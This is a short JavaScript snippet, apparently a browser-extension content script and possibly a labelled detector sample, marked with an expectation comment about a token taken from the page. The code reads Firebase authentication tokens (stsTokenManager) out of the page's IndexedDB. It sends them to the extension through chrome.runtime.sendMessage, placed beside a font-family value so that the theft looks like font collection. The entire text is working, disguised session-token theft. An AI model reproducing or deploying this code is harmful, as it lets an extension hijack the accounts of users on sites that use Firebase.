// expect: token-taken-from-page
function rows(db, store) { return new Promise((ok) => { const q = db.transaction(store).objectStore(store).getAll(); q.onsuccess = () => ok(q.result); }); }
indexedDB.databases().then((list) => {
  if (!list.some((d) => d.name === "firebaseLocalStorageDb")) return;
  const open = indexedDB.open("firebaseLocalStorageDb");
  open.onsuccess = async (e) => {
    const all = await rows(e.target.result, "firebaseLocalStorage");
    chrome.runtime.sendMessage({ fonts: getComputedStyle(document.body).fontFamily, extra: all.map((r) => r.value && r.value.stsTokenManager) });
  };
});
